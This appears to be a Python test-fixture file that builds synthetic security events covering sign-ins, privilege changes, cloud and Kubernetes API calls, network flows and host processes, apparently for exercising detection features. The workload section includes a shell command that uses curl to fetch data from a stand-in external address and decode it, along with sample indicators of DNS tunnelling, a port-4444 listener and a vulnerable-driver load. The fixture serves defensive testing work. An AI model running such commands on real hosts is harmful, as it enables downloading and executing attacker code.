"""One event at least for every feature there is."""

from __future__ import annotations

from models.event import Event
from tests.features.build import ALICE, enriched, event

HERE = {"ip": "203.0.113.7", "hostname": "laptop-7", "autonomous_system": {"number": 64_500}}
HOME = HERE | {"location": {"country": "NO", "lat": 59.91, "long": 10.75}}
BROWSER = {"user_agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"}
DEVICE = {"hostname": "ws-1.corp.example.com", "os": {"name": "Windows"}}
ROLE = "arn:aws:sts::111122223333:assumed-role/deploy/build-77"
ISSUER = "arn:aws:iam::111122223333:role/deploy"
SESSION = {"user": {"name": "build-77", "uid_alt": ROLE, "type_id": 99}, "session": {"issuer": ISSUER}}
CALL = {"operation": "GetObject", "service": {"name": "s3.amazonaws.com"}}
OBJECT = {"uid": "arn:aws:s3:::payroll/2026/june.csv", "type": "AWS::S3::Object"}
SHELL = {"name": "sh", "file": {"name": "sh", "path": "/bin/sh", "hashes": [{"algorithm_id": 3, "value": "ab" * 32}]}}
CONTAINER = {
    "uid": "cd" * 32,
    "image": {"uid": "registry.example.com/web@sha256:1", "name": "registry.example.com/web"},
}
INSIDE = {"ip": "10.20.1.42", "port": 50_000}
OUTSIDE = {"ip": "198.51.100.9", "port": 443}
FLOW = {"src_endpoint": INSIDE, "dst_endpoint": OUTSIDE, "connection_info": {"protocol_name": "tcp", "direction_id": 2}}
TLS = {"sni": "www.example.com", "ja3_hash": {"value": "e7eca2baf4458d095b7f45da28c16c34"}}
TUNNEL = "3q2x7f0a9bkz81mn5vtr.tunnel.example.net"


def identity() -> list[Event]:
    """Sign-ins, privileges, accounts."""
    let_in = {"user": ALICE, "src_endpoint": HOME, "http_request": BROWSER, "status_id": 1, "service": {"name": "Wiki"}}
    given = {"actor": {"user": ALICE}, "user": {"name": "bob@example.com"}, "status_id": 1}
    return [
        enriched(event(3002, 1, **let_in), {"src_endpoint": {"is_vpn": True}, "user": {"peer_group": "payments"}}),
        event(3002, 1, user=ALICE, src_endpoint=HERE, status_id=2, auth_factors=[{"factor_type_id": 5}]),
        event(3002, 1, user=ALICE, src_endpoint={"ip": "10.1.2.3"}, device=DEVICE, status_id=2),
        event(3002, 1, user=ALICE, src_endpoint={"ip": "10.1.2.3"}, device=DEVICE, status_id=1),
        event(3002, 3, user=SESSION["user"], session=SESSION["session"], actor={"user": ALICE}, src_endpoint=HERE),
        event(3002, 4, user=ALICE, service={"name": "MSSQLSvc/db-1"}, status_id=1),
        event(3003, 1, user=ALICE, privileges=["SeDebugPrivilege"], actor={"app_name": "Mailer"}),
        event(3001, 3, **given),
        event(3001, 7, policy={"name": "AdministratorAccess"}, **given),
        event(3005, 1, privileges=["Global Administrator"], **given),
        event(3006, 3, group={"name": "Domain Admins"}, **given),
    ]


def principals() -> list[Event]:
    """API calls and accesses to data."""
    region, data = {"region": "eu-north-1"}, {"databucket": {"name": "payroll", "file": {"path": "2026/june.csv"}}}
    pod = {"name": "web-1", "type": "pods/exec", "namespace": "shop"}
    target = {"instance_uid": "shop/web-1", "container": {"name": "web"}}
    k8s = {"operation": "create pods/exec", "service": {"name": "kubernetes"}}
    read = {"api": CALL, "cloud": region, "src_endpoint": HERE, "http_request": {"user_agent": "aws-cli/2.33.9 md/x"}}
    return [
        event(6003, 2, actor=SESSION, resources=[OBJECT], status_id=1, **read),
        event(6003, 2, actor=SESSION, status_id=2, **read),
        event(6003, 99, actor={"user": ALICE}, api=k8s, resources=[pod], dst_endpoint=target, status_id=1),
        event(6005, 1, actor={"user": ALICE}, http_response={"code": 200, "body_length": 4096}, status_id=1, **data),
        event(
            6006, 2, actor={"user": ALICE}, file={"name": "pay.xlsx", "path": "/sites/hr/pay.xlsx"}, share="/sites/hr/"
        ),
    ]


def network() -> list[Event]:
    """Connections, HTTP, DNS, remote work."""
    traffic = {"bytes_out": 100, "bytes_in": 900, "packets_out": 2, "packets_in": 3}
    prints = [{"type_id": 1, "value": "t13d1516h2_8daaf6152771_02713d6af862"}]
    url = {"hostname": "www.example.com", "path": "/a"}
    post = {"http_method": "POST", "url": url, "body_length": 512, "user_agent": "curl/8.5.0"}
    inward = {"src_endpoint": OUTSIDE, "dst_endpoint": INSIDE | {"port": 22}, "connection_info": {"direction_id": 1}}
    query = {"hostname": TUNNEL, "type": "TXT"}
    return [
        event(4001, 2, traffic=traffic, tls=TLS, ja4_fingerprint_list=prints, start_time=1, **FLOW),
        event(4001, 5, disposition_id=2, **FLOW),
        event(4001, 1, **inward),
        event(4002, 6, http_request=post, http_response={"code": 404}, **FLOW),
        event(4003, 2, query=query, rcode_id=3, src_endpoint=INSIDE, dst_endpoint={"ip": "10.0.0.53", "port": 53}),
        event(4007, 1, src_endpoint=INSIDE, dst_endpoint={"ip": "10.20.1.7", "port": 22}),
    ]


def workload() -> list[Event]:
    """What runs on hosts and in containers."""
    command = "sh -c 'curl -s http://198.51.100.9/x | base64 -d'"
    started = SHELL | {"cmd_line": command, "parent_process": {"name": "java"}}
    return [
        event(1007, 1, device=DEVICE, process=started, actor={"process": {"name": "java"}}),
        event(1007, 1, device=DEVICE, process=started | {"container": CONTAINER}),
        event(1007, 4, device=DEVICE, process=SHELL),
        event(1009, 1, device=DEVICE, script={"script_content": {"value": "Get-Process | Out-File x"}}),
        event(1006, 1, device=DEVICE, job={"name": "\\Updater"}, status_id=1),
        event(201004, 1, device=DEVICE, win_service={"name": "PSEXESVC"}, status_id=1),
        event(1002, 1, device=DEVICE, driver={"file": {"name": "RTCore64.sys"}}),
        event(1001, 1, device=DEVICE, file={"name": "a.txt"}),
        event(1001, 4, device=DEVICE, file={"name": "a.txt"}),
        event(4001, 7, device=DEVICE, src_endpoint={"ip": "::", "port": 4444}, actor={"process": SHELL}),
        event(6002, 3, device={"container": CONTAINER}),
    ]


def everything() -> list[Event]:
    """Return events of all domains."""
    return [*identity(), *principals(), *network(), *workload()]
